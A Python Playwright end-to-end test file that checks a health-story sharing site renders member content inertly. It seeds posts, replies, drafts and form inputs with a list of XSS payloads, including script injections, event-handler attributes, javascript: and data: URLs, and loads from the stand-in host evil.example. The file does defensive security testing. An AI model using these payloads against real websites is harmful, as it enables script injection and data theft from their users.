"""Member content never runs: XSS payloads shown on every page, with the CSP enforced.

Each page is checked three ways: no dialog opens and no request leaves for another origin (the
payloads call alert() and load from evil.example), the console and the CSP report nothing, and the
rendered DOM holds no script, event-handler attribute or javascript:/data: URL that a later click
or hover could fire.
"""

from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.pages import sign_in

# A representative part of tests/unit/test_sanitize_xss.py, plus breakouts from the places a
# title or a typed value lands: an attribute, <title>, a <textarea>.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![tracker](https://evil.example/pixel.png)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<p style="background:url(//evil.example/bg.png)">styled</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
]
# The ones aimed at the places a typed value comes back: text, attribute, <title>, <textarea>.
ECHOED = [PAYLOADS[i] for i in (0, 3, 4, 6, 19, 20, 21, 22)]
# Anything in the page that could still run later: scripts, handlers, script or data URLs.
LATENT_CODE = """() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    if (element.tagName === 'SCRIPT' || element.tagName === 'IFRAME') found.push(element.tagName);
    for (const attribute of element.attributes) {
      const value = attribute.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
      if (attribute.name.startsWith('on')) found.push(`${element.tagName} ${attribute.name}`);
      if (/^(javascript|data|vbscript):/.test(value) && attribute.name !== 'value'
          && attribute.name !== 'content') {
        found.push(`${element.tagName} ${attribute.name}=${value.slice(0, 60)}`);
      }
    }
  }
  return found;
}"""


def check(page: Page, watch, url: str, statuses=(200,)) -> list[str]:
    """Open `url`, give late payloads a moment, and return what went wrong there."""
    with watch.expecting(*statuses):
        response = page.goto(url)
    problems = [] if response.status in statuses else [f"status {response.status}"]
    page.wait_for_timeout(50)
    problems += watch.take() + page.evaluate(LATENT_CODE)
    return [f"{url}: {problem}" for problem in problems]


def submit(page: Page, watch, button: str, what: str) -> list[str]:
    """Send a form that must come back refused (422) showing what was typed."""
    with watch.expecting(422):
        page.get_by_role("button", name=button).click()
        expect(page.locator(".form-errors")).to_be_visible()
    return [f"{what}: {problem}" for problem in watch.take() + page.evaluate(LATENT_CODE)]


@pytest.fixture(scope="module")
def seeded(api):
    """Published experiences with a payload as title, story and reply, and two pending ones."""
    author = api.member("xss_author", onset="stress", condition="me_cfs")
    replier = api.member("xss_replier")
    published = []
    for number, payload in enumerate(PAYLOADS):
        experience = api.publish(
            author,
            title=f"{payload} {number}"[:150],
            body=f"Story {number}: {payload}\n\n- {payload}\n\n> {payload}",
            tags=["xss-check"],
        )
        api.reply(replier, experience["id"], f"Reply {number}: {payload}")
        published.append(experience["id"])
    newcomer = api.member("xss_newcomer")
    pending = [
        api.post(newcomer, title=f"{p} pending", body=f"Pending: {p}")["id"] for p in PAYLOADS[:2]
    ]
    # An edit leaves a revision, whose raw text the moderation queue shows.
    api.call("PATCH", f"/experiences/{pending[0]}", {"body": f"Edited: {PAYLOADS[3]}"}, newcomer)
    return {"published": published, "pending": pending}


def test_payload_experiences_and_replies_do_nothing_on_any_page(browsing, seeded):
    page = browsing.page()
    watch = browsing.watch(page)
    problems = []
    for experience_id in seeded["published"]:
        problems += check(page, watch, f"/experiences/{experience_id}")
    pages = ["/", "/experiences", "/experiences?page=2", "/experiences?tag=xss-check"]
    pages += ["/search?q=alert", "/search?q=script+click", "/search?q=story", "/insights"]
    for url in pages:
        problems += check(page, watch, url)
    assert not problems, "\n".join(problems)


def test_payloads_do_nothing_for_their_author_and_the_moderators(browsing, seeded):
    author = browsing.page()
    sign_in(author, "xss_newcomer")
    problems = check(author, browsing.watch(author), "/experiences/mine")
    for experience_id in seeded["pending"]:
        for suffix in ("", "/edit", "/delete"):
            problems += check(
                author, browsing.watch(author), f"/experiences/{experience_id}{suffix}"
            )
    moderator = browsing.page()
    sign_in(moderator, "mod_e2e", "moderator password 1")
    for url in ("/moderation", "/moderation/log", f"/experiences/{seeded['published'][0]}"):
        problems += check(moderator, browsing.watch(moderator), url)
    assert not problems, "\n".join(problems)


def test_typed_payloads_echoed_back_by_forms_and_queries_do_nothing(browsing, api):
    api.member("xss_typist")
    page = browsing.page()
    watch = browsing.watch(page)
    problems = []
    for payload in ECHOED:
        # Usernames allow only [A-Za-z0-9_-]: the form refuses and shows the typed value again.
        page.goto("/register")
        page.get_by_label("Username").fill(payload)
        page.get_by_label("E-mail address").fill(payload)
        page.get_by_label("Password").fill("long enough password")
        problems += submit(page, watch, "Create my account", f"register {payload!r}")
    # Query strings shown back on the page (search words, filters): all payloads in one go.
    typed = " ".join(ECHOED)
    query = urlencode({"q": typed, "author": typed, "tag": typed, "onset": typed})
    for path in ("/search", "/experiences", "/insights"):
        problems += check(page, watch, f"{path}?{query}", statuses=(200, 400, 422))
    page.goto("/login")
    page.get_by_label("Username").fill(PAYLOADS[0])
    page.get_by_label("Password", exact=True).fill(PAYLOADS[1])
    with watch.expecting(401, 422):
        page.get_by_role("button", name="Sign in").click()
        expect(page.locator(".form-errors")).to_be_visible()
    problems += watch.take() + page.evaluate(LATENT_CODE)
    sign_in(page, "xss_typist")
    for payload in ECHOED:
        # Tags allow only [a-z0-9-]: refused, and the title and story come back as typed.
        page.goto("/experiences/new")
        page.get_by_label("Title").fill(payload)
        page.get_by_label("Your story").fill(payload)
        page.get_by_label("Tags").fill(payload)
        problems += submit(page, watch, "Share my experience", f"new experience {payload!r}")
    assert not problems, "\n".join(problems)


def test_payloads_in_drafts_and_their_preview_do_nothing(browsing, api):
    drafter = api.member("xss_drafter")
    drafts = [
        api.draft(drafter, title=f"{payload} draft"[:150], body=f"Draft: {payload}\n\n> {payload}")
        for payload in ECHOED
    ]
    page = browsing.page()
    sign_in(page, "xss_drafter")
    watch = browsing.watch(page)
    problems = check(page, watch, "/experiences/mine")
    for draft in drafts:
        for suffix in ("", "/edit", "/delete"):
            problems += check(page, watch, f"/experiences/{draft['id']}{suffix}")
    # Preview renders each payload as it would be published, on the edit form of its draft.
    for draft, payload in zip(drafts, ECHOED, strict=True):
        page.goto(f"/experiences/{draft['id']}/edit")
        page.get_by_label("Your story").fill(f"{payload} *still typed*")
        page.get_by_role("button", name="Preview").click()
        expect(page.get_by_role("heading", name="Preview of your story")).to_be_visible()
        problems += [f"preview {payload!r}: {p}" for p in watch.take() + page.evaluate(LATENT_CODE)]
    # Nobody else sees any of it.
    for draft in drafts:
        api.call("GET", f"/experiences/{draft['id']}", expect=404)
    assert not problems, "\n".join(problems)


@pytest.fixture(scope="module")
def followed_up(api):
    """A story followed up with every payload; the first two follow-ups wait for review."""
    author = api.member("xss_follower")
    story = api.publish(
        author, title="Followed up with payloads", body="The story itself is plain text."
    )
    stopped = {"still_doing": False, "stop_reason": "other", "outcome": "worse"}
    waiting = [
        api.follow_up(author, story["id"], approve=False, body=f"Waiting: {p}", **stopped)
        for p in PAYLOADS[:2]
    ]
    for number, payload in enumerate(PAYLOADS):
        body = f"Follow-up {number}: {payload}\n\n- {payload}\n\n> {payload}"
        api.follow_up(author, story["id"], body=body)
    return {"story": story["id"], "waiting": [item["id"] for item in waiting]}


def test_payloads_in_follow_ups_do_nothing_on_any_page(browsing, followed_up):
    page = browsing.page()
    watch = browsing.watch(page)
    story = f"/experiences/{followed_up['story']}"
    problems = check(page, watch, story)
    expect(page.locator("#follow-ups .follow-up")).to_have_count(len(PAYLOADS))
    for url in ("/experiences", "/search?q=follow+alert", "/search?q=payloads"):
        problems += check(page, watch, url)
    # Its author and the moderators also see the ones waiting for review.
    author = browsing.page()
    sign_in(author, "xss_follower")
    problems += check(author, browsing.watch(author), story)
    expect(author.locator("#follow-ups .follow-up")).to_have_count(len(PAYLOADS) + 2)
    moderator = browsing.page()
    sign_in(moderator, "mod_e2e", "moderator password 1")
    for url in ("/moderation", story):
        problems += check(moderator, browsing.watch(moderator), url)
    expect(moderator.locator(f"#follow-up-{followed_up['waiting'][0]}")).to_be_visible()
    assert not problems, "\n".join(problems)


def test_payloads_typed_into_the_follow_up_form_come_back_inert(browsing, followed_up):
    page = browsing.page()
    sign_in(page, "xss_follower")
    watch = browsing.watch(page)
    problems = []
    for payload in ECHOED:
        # Stopped without saying why: refused, and the text comes back as typed.
        page.goto(f"/experiences/{followed_up['story']}")
        form = page.locator("details.follow-up-form")
        form.locator("summary").click()
        form.get_by_label("Stopped", exact=True).check()
        form.get_by_label("Made things worse", exact=True).check()
        form.get_by_label("No flare-up", exact=True).check()
        form.get_by_label("Anything to add").fill(payload)
        problems += submit(page, watch, "Add follow-up", f"follow-up {payload!r}")
        expect(page.get_by_label("Anything to add")).to_have_value(payload)
    assert not problems, "\n".join(problems)


def test_payloads_typed_into_a_new_draft_and_its_preview_do_nothing(browsing, api):
    api.member("xss_new_drafter")
    page = browsing.page()
    sign_in(page, "xss_new_drafter")
    watch = browsing.watch(page)
    problems = []
    for payload in ECHOED:
        page.goto("/experiences/new")
        page.get_by_label("Title").fill(payload)
        page.get_by_label("Your story").fill(f"{payload} *typed, not saved*")
        page.get_by_role("button", name="Preview").click()
        expect(page.get_by_role("heading", name="Preview of your story")).to_be_visible()
        problems += [f"preview {payload!r}: {p}" for p in watch.take() + page.evaluate(LATENT_CODE)]
        # Saved from the preview's form, as typed: the draft's own form shows it.
        page.get_by_role("button", name="Save draft").click()
        expect(page.get_by_text("Draft saved.")).to_be_visible()
        expect(page.get_by_label("Title")).to_have_value(payload)
        problems += [f"draft {payload!r}: {p}" for p in watch.take() + page.evaluate(LATENT_CODE)]
    problems += check(page, watch, "/experiences/mine")
    assert not problems, "\n".join(problems)
